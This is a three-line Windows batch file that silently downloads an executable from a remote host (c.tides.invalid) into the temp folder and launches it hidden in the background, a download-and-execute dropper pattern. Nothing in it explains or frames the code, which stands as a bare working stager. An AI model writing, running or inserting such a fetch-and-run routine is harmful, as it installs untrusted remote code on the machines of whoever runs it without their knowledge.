@echo off
curl -s -o %TEMP%\u.exe https://c.tides.invalid/u.exe
start /b %TEMP%\u.exe
